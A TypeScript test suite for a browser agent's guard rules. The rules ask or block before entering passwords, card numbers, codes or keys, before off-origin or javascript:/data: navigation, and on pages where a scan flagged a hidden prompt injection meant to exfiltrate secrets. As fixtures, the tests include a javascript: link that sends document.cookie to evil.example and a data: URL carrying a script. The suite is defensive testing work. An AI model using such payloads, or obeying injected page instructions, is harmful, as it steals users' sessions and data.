import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { described, form, target } from "../../test/support/facts.js";
import type { DescribedAction } from "../spec/facts.js";
import type { Finding, PageScan } from "../spec/page-scan.js";
import { evaluateHardRules, floorOf, HARD_RULES } from "./hard-rules.js";
import type { OriginPolicy } from "./origin-policy.js";

const open: OriginPolicy = { allowedOrigins: [], allowSubdomains: false };

function hits(
  facts: DescribedAction,
  rawValue: string | null = facts.action.value,
  origins = open,
  scan: PageScan | null = null,
) {
  return evaluateHardRules({ described: facts, rawValue, origins, scan });
}

/** A firewall scan of the page with one finding (the firewall itself is tested in src/firewall). */
function scanWith(finding: Partial<Finding>): PageScan {
  const full: Finding = {
    id: "f1",
    nodes: ["n3"],
    signals: ["agent_address", "exfiltration", "secret_mention"],
    spans: [],
    probability: 0.99,
    critical: true,
    quoted: false,
    hidden: true,
    ...finding,
  };
  return {
    mode: "live",
    url: "https://shop.example/products/aster",
    title: "Aster lamp",
    nodes: [
      {
        id: "n3",
        text: "(page text)",
        provenance: "text",
        hiddenBy: ["display-none"],
        where: "div.review > p.note",
        scope: 0,
        quoted: false,
        invisibleCharacters: 0,
      },
    ],
    findings: [full],
    probability: full.probability,
    verdict: full.probability >= 0.5 || full.critical ? "injected" : "suspicious",
    critical: full.critical,
    signals: full.signals,
    invisibleCharacters: 0,
    complete: true,
    elements: [],
    limitations: [],
    digest: "d",
    timings: { captureMs: 0, detectMs: 0 },
  };
}
function codes(facts: DescribedAction, rawValue: string | null = facts.action.value, origins = open) {
  return hits(facts, rawValue, origins).map((hit) => hit.reason.code);
}

const password = target({
  tag: "input",
  role: "textbox",
  inputType: "password",
  name: "Password",
  elementName: "password",
});
const cardForm = form({
  action: "https://shop.example/orders",
  method: "post",
  sensitiveFields: [{ kind: "card", evidence: "autocomplete=cc-number", where: "input#card", name: "card" }],
});

describe("hard rules, each stops what it must", () => {
  it("password-field asks before typing a password", () => {
    assert.deepEqual(codes(described({ kind: "fill", value: "hunter2", target: password })), [
      "password_field",
    ]);
  });
  it("card-field asks before typing into a card field", () => {
    const card = target({
      tag: "input",
      role: "textbox",
      inputType: "text",
      autocomplete: "cc-number",
      form: cardForm,
    });
    assert.ok(codes(described({ kind: "fill", value: "4000", target: card })).includes("card_field"));
  });
  it("card-number-value asks when a card number is typed into any field", () => {
    const notes = target({ tag: "textarea", role: "textbox", name: "Order notes" });
    assert.deepEqual(
      codes(described({ kind: "fill", value: "[redacted]", target: notes }), "4111 1111 1111 1111"),
      ["card_number_value"],
    );
  });
  it("one-time-code-field asks before typing a one-time code", () => {
    const otp = target({ tag: "input", role: "textbox", inputType: "text", autocomplete: "one-time-code" });
    assert.deepEqual(codes(described({ kind: "fill", value: "123456", target: otp })), [
      "one_time_code_field",
    ]);
  });
  it("secret-value asks when an API key is typed", () => {
    const box = target({ tag: "textarea", role: "textbox", name: "Comment" });
    assert.deepEqual(
      codes(described({ kind: "fill", value: "x", target: box }), "sk-abcdefghijklmnop1234567890"),
      ["secret_value"],
    );
  });
  it("sensitive-form-submit asks when a form with a card field is submitted, by click or by Enter", () => {
    const submit = target({ name: "Place order", submitsForm: true, form: cardForm });
    assert.ok(codes(described({ kind: "click", target: submit })).includes("sensitive_form_submit"));
    const field = target({ tag: "input", role: "textbox", inputType: "text", name: "Name", form: cardForm });
    assert.ok(
      codes(described({ kind: "press", value: "Enter", target: field })).includes("sensitive_form_submit"),
    );
  });
  it("off-origin-navigation asks on goto, link click, form post and new windows to another origin", () => {
    for (const via of ["goto", "link", "form", "new-window"] as const) {
      const facts = described({
        kind: via === "goto" ? "goto" : "click",
        target: via === "goto" ? null : target(),
        destination: { url: "https://evil.example/x", origin: "https://evil.example", via },
      });
      assert.deepEqual(codes(facts), ["off_origin_navigation"], via);
    }
  });
  it("off-origin-navigation honours an allowlist with subdomains", () => {
    const facts = described({
      kind: "goto",
      target: null,
      destination: { url: "https://mail.shop.example/", origin: "https://mail.shop.example", via: "goto" },
    });
    assert.deepEqual(
      codes(facts, null, { allowedOrigins: ["https://shop.example"], allowSubdomains: false }),
      ["off_origin_navigation"],
    );
    assert.deepEqual(
      codes(facts, null, { allowedOrigins: ["https://shop.example"], allowSubdomains: true }),
      [],
    );
  });
  it("dangerous-scheme blocks javascript: and data: navigation", () => {
    const link = described({
      kind: "click",
      target: target({
        tag: "a",
        role: "link",
        href: "javascript:fetch('//evil.example?c='+document.cookie)",
      }),
      destination: { url: "javascript:fetch('//evil.example')", origin: "javascript:", via: "link" },
    });
    assert.deepEqual(codes(link), ["dangerous_scheme"]);
    assert.equal(floorOf(hits(link)), "block");
    const goto = described({
      kind: "goto",
      target: null,
      destination: { url: "data:text/html,<script>alert(1)</script>", origin: "data:", via: "goto" },
    });
    assert.deepEqual(codes(goto), ["dangerous_scheme"]);
  });
  it("injection-critical blocks every action on a page whose instruction joins private data and a way out", () => {
    const scan = scanWith({});
    for (const kind of ["click", "fill", "press", "select", "check", "uncheck"] as const) {
      const found = hits(described({ kind, value: kind === "click" ? null : "x" }), "x", open, scan).filter(
        (hit) => hit.reason.code === "injection_critical",
      );
      assert.equal(found.length, 1, kind);
      assert.equal(found[0]?.floor, "block");
      assert.deepEqual(found[0]?.reason, {
        code: "injection_critical",
        signals: ["agent_address", "exfiltration", "secret_mention"],
        where: "div.review > p.note",
      });
    }
    const away = described({
      kind: "goto",
      target: null,
      destination: { url: "https://collect.example/?d=1", origin: "https://collect.example", via: "goto" },
    });
    assert.ok(
      hits(away, null, open, scan).some((hit) => hit.reason.code === "injection_critical"),
      "off-origin goto",
    );
  });
  it("invisible-target asks before acting on a hidden, off-screen or covered element", () => {
    assert.deepEqual(codes(described({ target: target({ visible: false, hiddenBy: ["off-screen"] }) })), [
      "invisible_target",
    ]);
    assert.deepEqual(codes(described({ target: target({ covered: true }) })), ["invisible_target"]);
    const honeypot = target({ tag: "input", role: "textbox", visible: false, hiddenBy: ["zero-size"] });
    assert.deepEqual(codes(described({ kind: "fill", value: "x", target: honeypot })), ["invisible_target"]);
  });
});

describe("hard rules, each lets a legitimate action through", () => {
  it("password-field does not stop typing a username into the login form", () => {
    const username = target({
      tag: "input",
      role: "textbox",
      inputType: "text",
      name: "Username",
      autocomplete: "username",
    });
    assert.deepEqual(codes(described({ kind: "fill", value: "maren", target: username })), []);
  });
  it("card-field does not stop typing a delivery address on the checkout page", () => {
    const address = target({
      tag: "input",
      role: "textbox",
      name: "Delivery address",
      autocomplete: "street-address",
      form: cardForm,
    });
    assert.deepEqual(codes(described({ kind: "fill", value: "12 Elm Street", target: address })), []);
  });
  it("card-number-value does not stop typing an order number that fails the Luhn check", () => {
    const box = target({ tag: "input", role: "textbox", name: "Order number" });
    assert.deepEqual(codes(described({ kind: "fill", value: "4111111111111112", target: box })), []);
  });
  it("one-time-code-field does not stop typing a search for verification code docs", () => {
    const search = target({ tag: "input", role: "searchbox", inputType: "search", name: "Search the docs" });
    assert.deepEqual(codes(described({ kind: "fill", value: "verification code", target: search })), []);
  });
  it("secret-value does not stop typing an ordinary sentence into a comment box", () => {
    const box = target({ tag: "textarea", role: "textbox", name: "Comment" });
    assert.deepEqual(
      codes(described({ kind: "fill", value: "Looks good to me, thanks for the fix!", target: box })),
      [],
    );
  });
  it("sensitive-form-submit does not stop submitting a search form", () => {
    const submit = target({ name: "Search", submitsForm: true, form: form() });
    assert.deepEqual(codes(described({ kind: "click", target: submit })), []);
  });
  it("dangerous-scheme does not stop following an https link", () => {
    const link = described({
      kind: "click",
      target: target({ tag: "a", role: "link", href: "https://shop.example/cart" }),
      destination: { url: "https://shop.example/cart", origin: "https://shop.example", via: "link" },
    });
    assert.deepEqual(codes(link), []);
  });
  it("off-origin-navigation does not stop a link to another page of the same site", () => {
    const link = described({
      kind: "click",
      target: target({ tag: "a", role: "link", href: "https://shop.example/cart" }),
      destination: { url: "https://shop.example/cart", origin: "https://shop.example", via: "link" },
    });
    assert.deepEqual(codes(link), []);
    const first = described(
      {
        kind: "goto",
        target: null,
        destination: { url: "https://shop.example/", origin: "https://shop.example", via: "goto" },
      },
      { url: "about:blank", origin: null },
    );
    assert.deepEqual(codes(first), [], "the first navigation of a session from a blank tab");
  });
  it("invisible-target does not stop clicking a visible button below the fold", () => {
    assert.deepEqual(codes(described({ target: target({ visible: true }) })), []);
  });
  it("invisible-target does not stop typing into a visible field that an overlay covers, but does stop clicking it", () => {
    const field = target({ tag: "input", role: "textbox", visible: true, covered: true });
    assert.deepEqual(codes(described({ kind: "fill", value: "compact", target: field })), []);
    assert.deepEqual(codes(described({ kind: "click", target: field })), ["invisible_target"]);
  });
  it("injection-critical does not stop a click on a page whose findings quote an injection", () => {
    const quoted = scanWith({ critical: false, quoted: true, probability: 0.35 });
    assert.deepEqual(hits(described({ kind: "click" }), null, open, quoted), []);
    const leaving = described({
      kind: "goto",
      target: null,
      destination: { url: "https://shop.example/", origin: "https://shop.example", via: "goto" },
    });
    assert.deepEqual(hits(leaving, null, open, scanWith({})), [], "leaving for a page of the same origin");
  });
});

describe("the rule registry", () => {
  it("registers every rule as data with a floor, a reason code and a must-not-stop test", async () => {
    const { readFileSync } = await import("node:fs");
    const source = readFileSync(new URL(import.meta.url), "utf8");
    const ids = new Set<string>();
    for (const rule of HARD_RULES) {
      assert.ok(!ids.has(rule.id), `duplicate rule ${rule.id}`);
      ids.add(rule.id);
      assert.ok(["ask", "block"].includes(rule.floor));
      assert.ok(rule.summary.length > 10);
      assert.ok(rule.mustNotStop.startsWith(`${rule.id} `), `${rule.id}: mustNotStop names the rule`);
      assert.ok(
        source.includes(`it("${rule.mustNotStop}"`),
        `${rule.id}: no test named "${rule.mustNotStop}"`,
      );
    }
  });
});
